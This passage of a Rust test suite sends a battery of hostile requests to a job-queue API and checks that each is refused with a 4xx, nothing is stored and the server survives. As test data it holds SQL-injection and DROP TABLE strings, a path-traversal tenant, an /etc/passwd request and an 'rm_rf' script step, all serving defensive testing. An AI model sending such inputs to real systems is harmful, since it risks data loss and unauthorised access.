            HeaderValue::from_bytes(&bytes).expect("a header value"),
        );
        if bytes.len() < 1000 {
            c = c.expect(400).mentions("dempotency");
        }
        cases.push(c);
    }
    for (label, bytes) in [
        ("non-ASCII bytes", b"Bearer agq_\xff\xfe".to_vec()),
        (
            "60,000 characters",
            [b"Bearer ".to_vec(), vec![b'a'; 60_000]].concat(),
        ),
    ] {
        let mut c = Case::create(
            format!("Authorization with {label}"),
            producer,
            valid.to_string(),
        )
        .header(
            "authorization",
            HeaderValue::from_bytes(&bytes).expect("a header value"),
        );
        c.token = None;
        if bytes.len() < 1000 {
            c = c.expect(401);
        }
        cases.push(c);
    }
    for (label, bytes) in [
        ("non-ASCII bytes", b"req-\xff\xfe".to_vec()),
        ("10,000 characters", vec![b'r'; 10_000]),
        ("a quote", b"req'\"--".to_vec()),
    ] {
        let mut c = Case::create(
            format!("x-request-id with {label}"),
            producer,
            refused.to_string(),
        )
        .header(
            "x-request-id",
            HeaderValue::from_bytes(&bytes).expect("a header value"),
        );
        c.not_echoed = Some(bytes);
        cases.push(c);
    }
    let mut many = Case::create("60 extra headers", producer, refused.to_string());
    for i in 0..60 {
        many.headers.push((
            HeaderName::from_bytes(format!("x-junk-{i}").as_bytes()).expect("a header name"),
            HeaderValue::from_static("' OR 1=1 --"),
        ));
    }
    cases.push(many);

    // The same Idempotency-Key with other bodies: 422 idempotency-key-reused.
    let mut reused = Vec::new();
    for i in 0..20 {
        reused.push(json!({ "kind": "echo", "input": { "text": format!("variant {i}") } }));
    }
    reused.push(json!({ "kind": "script", "input": { "steps": [{ "work_ms": 1 }] } }));
    reused.push(json!({ "kind": "echo", "input": { "text": "original" }, "lane": "batch" }));
    reused.push(json!({ "kind": "echo", "input": { "text": "original" }, "concurrency_key": "a", "concurrency_limit": 2 }));
    for body in reused {
        let mut c = Case::create(
            format!("reused key with {body}"),
            producer,
            body.to_string(),
        )
        .expect(422)
        .header(
            "idempotency-key",
            HeaderValue::from_str(dup_key).expect("a header value"),
        );
        c.slug = Some("idempotency-key-reused");
        cases.push(c);
    }

    // A producer's key in a namespace agentq derives keys in (a webhook delivery's, a batch
    // document's): 422, so it can never take a genuine delivery's key before it arrives.
    for key in [
        "webhook:tracker:evt_2",
        "batch:00000000-0000-0000-0000-000000000000:doc-1",
    ] {
        let mut c = Case::create(format!("squatted key {key}"), producer, valid.to_string())
            .expect(422)
            .header(
                "idempotency-key",
                HeaderValue::from_str(key).expect("a header value"),
            );
        c.mentions = Some("Idempotency-Key".into());
        cases.push(c);
    }

    // An admin names any tenant, but only a valid one: 422.
    let long_tenant = "t".repeat(129);
    for tenant in [
        "' OR '1'='1",
        "acme'; DROP TABLE operations; --",
        "",
        long_tenant.as_str(),
        "ten ant",
        "acme\u{0}",
        "../acme",
        "ténant",
    ] {
        cases.push(
            Case::create(
                format!("an admin naming tenant {:?}", truncate(tenant, 40)),
                admin,
                json!({ "kind": "echo", "input": { "text": "x" }, "tenant": tenant }).to_string(),
            )
            .expect(422)
            .mentions("tenant"),
        );
    }
    // Script inputs out of range.
    for step in [
        r#"{"work_ms":-1}"#,
        r#"{"sleep_ms":18446744073709551616}"#,
        r#"{"fail":"sometimes","times":1}"#,
        r#"{"wait_signal":5,"timeout_ms":1}"#,
        r#"{"tool":"rm_rf","replay":"safe","label":"x"}"#,
    ] {
        cases.push(
            Case::create(
                format!("a script step {step}"),
                producer,
                format!(r#"{{"kind":"script","input":{{"steps":[{step}]}}}}"#),
            )
            .expect(422),
        );
    }
    // Payloads Postgres cannot store, to an operation that exists.
    let mut nul = Case::new(
        "a signal payload with a NUL escape",
        Method::POST,
        format!("/v1/operations/{existing}/signals/go"),
        producer,
    );
    nul.body = Body::Bytes(br#"{"note":"a\u0000b"}"#.to_vec());
    cases.push(nul);
    let mut nul_reason = Case::new(
        "a cancel reason with a NUL escape",
        Method::POST,
        format!("/v1/operations/{existing}/cancel"),
        producer,
    );
    nul_reason.body = Body::Bytes(br#"{"reason":"a\u0000b"}"#.to_vec());
    cases.push(nul_reason);
    let mut deep_payload = Case::new(
        "a signal payload nested 70 deep",
        Method::POST,
        format!("/v1/operations/{existing}/signals/go"),
        producer,
    );
    deep_payload.body = Body::Bytes(nested(70, "[", "]", "1").into_bytes());
    cases.push(deep_payload);
    let mut nul_name = Case::new(
        "a signal name with a NUL byte",
        Method::POST,
        format!("/v1/operations/{existing}/signals/a%00b"),
        producer,
    );
    nul_name.body = Body::Bytes(b"{}".to_vec());
    cases.push(nul_name);
    for query in ["last_event_id=abc", "last_event_id=-1", "last_event_id=1e3"] {
        cases.push(Case::new(
            format!("events with {query}"),
            Method::GET,
            format!("/v1/operations/{existing}/events?{query}"),
            producer,
        ));
    }

    // Other routes.
    let op = random();
    for body in ["{not json", "[1,", "\u{0}"] {
        let mut c = Case::new(
            format!("a signal payload {body:?}"),
            Method::POST,
            format!("/v1/operations/{op}/signals/go"),
            producer,
        );
        c.body = Body::Bytes(body.as_bytes().to_vec());
        cases.push(c);
    }
    let mut big_signal = Case::new(
        "a 2 MiB signal payload",
        Method::POST,
        format!("/v1/operations/{op}/signals/go"),
        producer,
    );
    big_signal.body = Body::Bytes(sized(2048 * 1024));
    cases.push(big_signal);
    for name in ["' OR 1=1 --", "x".repeat(5000).as_str(), "%00"] {
        let name = if name == "%00" {
            name.to_string()
        } else {
            urlencode(name)
        };
        cases.push(
            Case::new(
                format!("signal name {}", truncate(&name, 40)),
                Method::POST,
                format!("/v1/operations/{op}/signals/{name}"),
                producer,
            )
            .json(&json!({})),
        );
    }
    for body in [
        json!({ "reason": 5 }),
        json!({ "reason": ["a"] }),
        json!({ "nope": 1 }),
        json!([]),
    ] {
        cases.push(
            Case::new(
                format!("cancel with {body}"),
                Method::POST,
                format!("/v1/operations/{op}/cancel"),
                producer,
            )
            .json(&body),
        );
    }
    for query in [
        "limit=abc",
        "limit=-1",
        "limit=0",
        "limit=1001",
        "limit=99999999999999999999",
        "since=yesterday",
        "since=100000000d",
        "since=99999999999999999999999d",
        "since=0001-01-01T00:00:00Z",
        "since=%27%20OR%201%3D1--",
        "after=garbage",
        "after=%27%20OR%201%3D1%20--",
    ] {
        cases.push(Case::new(
            format!("GET /v1/dlq?{query}"),
            Method::GET,
            format!("/v1/dlq?{query}"),
            operator,
        ));
    }
    // The operations list: every bad parameter is a 400 naming it; another tenant a 403.
    let uuid = random();
    let long = "k".repeat(200);
    for (query, param, status) in [
        ("limit=abc", "limit", 400),
        ("limit=-1", "limit", 400),
        ("limit=0", "limit", 400),
        ("limit=1001", "limit", 400),
        ("limit=99999999999999999999", "limit", 400),
        ("limit=1e3", "limit", 400),
        ("limit=1&limit=2", "limit", 400),
        ("after=garbage", "after", 400),
        ("after=%27%20OR%201%3D1%20--", "after", 400),
        (
            &format!("after=0000-01-01T00:00:00Z/{uuid}") as &str,
            "after",
            400,
        ),
        (&format!("after=99999-01-01T00:00:00Z/{uuid}"), "after", 400),
        (
            &format!("after=2026-01-01T00:00:00Z/{uuid}&after=2026-01-01T00:00:00Z/{uuid}"),
            "after",
            400,
        ),
        ("created_after=0000-01-01T00:00:00Z", "created_after", 400),
        (
            "created_before=99999-01-01T00:00:00Z",
            "created_before",
            400,
        ),
        ("finished_after=yesterday", "finished_after", 400),
        ("finished_before=100000000d", "finished_before", 400),
        (
            "created_after=99999999999999999999999d",
            "created_after",
            400,
        ),
        ("created_after=%27%20OR%201%3D1--", "created_after", 400),
        (
            "created_after=2026-01-02T00:00:00Z&created_before=2026-01-01T00:00:00Z",
            "created_before",
            400,
        ),
        ("finished_after=2h&finished_after=1h", "finished_after", 400),
        ("status=nope", "status", 400),
        ("status=QUEUED", "status", 400),
        ("status=queued,nope", "status", 400),
        ("status=queued,", "status", 400),
        ("status=%27%20OR%20%271%27%3D%271", "status", 400),
        ("status=", "status", 400),
        ("batch=not-a-uuid", "batch", 400),
        ("batch=%27%20OR%20%271%27%3D%271", "batch", 400),
        ("parent=not-a-uuid", "parent", 400),
        ("parent=%27%20OR%20%271%27%3D%271", "parent", 400),
        ("parent=a&parent=b", "parent", 400),
        ("schedule=12345", "schedule", 400),
        ("kind=", "kind", 400),
        (&format!("kind={long}"), "kind", 400),
        ("kind=echo&kind=script", "kind", 400),
        ("tenant_id=acme", "tenant_id", 400),
        ("order=id", "order", 400),
        ("limit", "limit", 400),
        ("tenant=beta", "tenant", 403),
        ("tenant=%27%20OR%201%3D1--", "tenant", 403),
        ("tenant=acme&tenant=beta", "tenant", 400),
    ] {
        cases.push(
            Case::new(
                format!("GET /v1/operations?{}", truncate(query, 60)),
                Method::GET,
                format!("/v1/operations?{query}"),
                producer,
            )
            .expect(status)
            .mentions(param),
        );
    }
    cases.push(
        Case::new(
            "GET /v1/operations with a NUL in the query",
            Method::GET,
            "/v1/operations?kind=a%00b",
            producer,
        )
        .expect(400),
    );
    cases.push(
        Case::new(
            "GET /v1/operations?tenant=ops%27 as an admin",
            Method::GET,
            "/v1/operations?tenant=ops%27",
            admin,
        )
        .expect(400)
        .mentions("tenant"),
    );
    // Starting a batch: refused bodies create nothing.
    for (body, status) in [
        (json!({}), 422),
        (
            json!({ "source": 1, "target": "out", "instructions": "x" }),
            422,
        ),
        (
            json!({ "source": "' OR 1=1 --", "target": "out", "instructions": "x" }),
            422,
        ),
        (
            json!({ "source": "docs", "target": "out", "instructions": "x", "drop": true }),
            422,
        ),
        (
            json!({ "source": "docs", "target": "out", "instructions": "   " }),
            422,
        ),
        (
            json!({ "source": "docs", "target": "out", "instructions": "x", "pause_window": 0 }),
            422,
        ),
        (
            json!({ "source": "docs", "target": "out", "instructions": "x", "canary": 0 }),
            422,
        ),
        (
            json!({ "source": "docs", "target": "out", "instructions": "x", "tenant": "beta" }),
            403,
        ),
        (json!([]), 422),
    ] {
        cases.push(
            Case::new(
                format!("POST /v1/batches {}", truncate(&body.to_string(), 60)),
                Method::POST,
                "/v1/batches",
                operator,
            )
            .json(&body)
            .expect(status),
        );
    }
    let mut not_json = Case::new(
        "POST /v1/batches not JSON",
        Method::POST,
        "/v1/batches",
        operator,
    )
    .expect(400);
    not_json.body = Body::Bytes(b"{source".to_vec());
    cases.push(not_json);
    cases.push(Case::new(
        "GET /v1/dlq/stats?since=bogus",
        Method::GET,
        "/v1/dlq/stats?since=bogus",
        operator,
    ));
    let dl = random();
    for (action, body) in [
        ("discard", json!({})),
        ("discard", json!({ "reason": "" })),
        ("retry", json!({ "patch_input": "not a patch", "bogus": 1 })),
        ("resolve", json!({ "happened": "yes" })),
        ("resolve", json!({})),
    ] {
        cases.push(
            Case::new(
                format!("{action} with {body}"),
                Method::POST,
                format!("/v1/dlq/{dl}/{action}"),
                operator,
            )
            .json(&body),
        );
    }
    for source in [
        "' OR 1=1 --",
        "x".repeat(5000).as_str(),
        "crm;DROP TABLE webhook_sources",
    ] {
        let mut c = Case::new(
            format!("an unsigned webhook to {}", truncate(source, 40)),
            Method::POST,
            format!("/v1/webhooks/{}", urlencode(source)),
            producer,
        )
        .json(&json!({ "text": "x" }));
        c.token = None;
        cases.push(c);
    }
    for (method, path, status) in [
        (Method::GET, format!("/v1/operations/{op}/nope"), 404),
        (Method::GET, "/v1/operations/".to_string(), 404),
        (Method::GET, "/etc/passwd".to_string(), 404),
        (Method::GET, "/v1/dlq/stats/extra".to_string(), 404),
        (Method::PATCH, format!("/v1/operations/{op}"), 405),
        (Method::DELETE, "/v1/dlq".to_string(), 405),
        (Method::PUT, format!("/v1/operations/{op}/cancel"), 405),
    ] {
        cases.push(Case::new(format!("{method} {path}"), method, path, producer).expect(status));
    }
    cases
}

#[tokio::test]
async fn api_hostile_input_battery_gets_4xx_problems_and_enqueues_nothing() {
    let mut app = TestApp::start().await;
    let (server, base) = app.serve().await;
    let api = Api::new(&base);
    let producer = app.token("acme", "producer");
    let operator = app.token("acme", "operator");
    let admin = app.token("ops", "admin");

    // The one legitimate request: a key the battery then reuses with other bodies.
    let dup_key = "dup-key-1";
    let first = send(
        "the first use of the reused key",
        api.req(Method::POST, "/v1/operations", Some(&producer))
            .header("idempotency-key", dup_key)
            .json(&json!({ "kind": "echo", "input": { "text": "original" } })),
    )
    .await
    .expect(202);
    let existing = first["op_id"].as_str().unwrap_or_default().to_string();
    let before = app.operation_count().await;
    assert_eq!(before, 1);

    let cases = battery(&producer, &operator, &admin, dup_key, &existing);
    // A connection per request: after a 413 the server closes the connection (the body is left
    // unread) without `Connection: close`, and a pooled client reusing it would see the close
    // instead of the answer to its next request.
    let fresh = Api {
        client: reqwest::Client::builder()
            .timeout(crate::harness::DEADLINE)
            .pool_max_idle_per_host(0)
            .build()
            .expect("an HTTP client"),
        base: api.base.clone(),
    };
    assert!(cases.len() >= 300, "only {} cases", cases.len());
    let started = std::time::Instant::now();
    let results: Vec<(usize, Result<Reply, String>)> =
        futures_util::stream::iter(cases.iter().enumerate())
            .map(|(i, c)| {
                let api = &fresh;
                async move { (i, c.run(api).await) }
            })
            .buffer_unordered(16)
            .collect()
            .await;
    let mut failures = Vec::new();
    let mut statuses: BTreeMap<u16, usize> = BTreeMap::new();
    for (i, result) in &results {
        match result {
            Ok(r) => {
                *statuses.entry(r.status).or_default() += 1;
                if let Err(e) = cases[*i].check(r) {
                    failures.push(e);
                }
            }
            Err(e) => failures.push(e.clone()),
        }
    }
    println!(
        "{} hostile requests in {:.1} s; statuses {statuses:?}",
        cases.len(),
        started.elapsed().as_secs_f64()
    );
    let server_errors: usize = statuses.range(500..).map(|(_, n)| n).sum();
    assert!(
        failures.is_empty(),
        "{} of {} hostile requests were answered wrongly ({server_errors} 5xx); statuses {statuses:?}:\n{}",
        failures.len(),
        cases.len(),
        failures.join("\n")
    );
    assert_eq!(server_errors, 0);

    assert_eq!(app.operation_count().await, before, "nothing was enqueued");
    let signals: i64 = sqlx::query_scalar("SELECT count(*) FROM signals")
        .fetch_one(&app.pool)
        .await
        .unwrap_or(-1);
    assert_eq!(signals, 0, "no signal was stored");
    let actions: i64 =
        sqlx::query_scalar("SELECT count(*) FROM operator_actions WHERE action NOT LIKE 'token_%'")
            .fetch_one(&app.pool)
            .await
            .unwrap_or(-1);
    assert_eq!(actions, 0, "no operator action");

    // Still serving, still the same process.
    api.get("/healthz", None).await.expect(200);
    assert!(
        !app.wait_exit(server, Duration::from_millis(10)).await,
        "the server process is still running"
    );
    let v = api
        .post(
            "/v1/operations",
            Some(&producer),
            &json!({ "kind": "echo", "input": { "text": "after the battery" } }),
        )
        .await
        .expect(202);
    assert!(v["op_id"].is_string(), "{v}");
    app.cleanup().await;
}
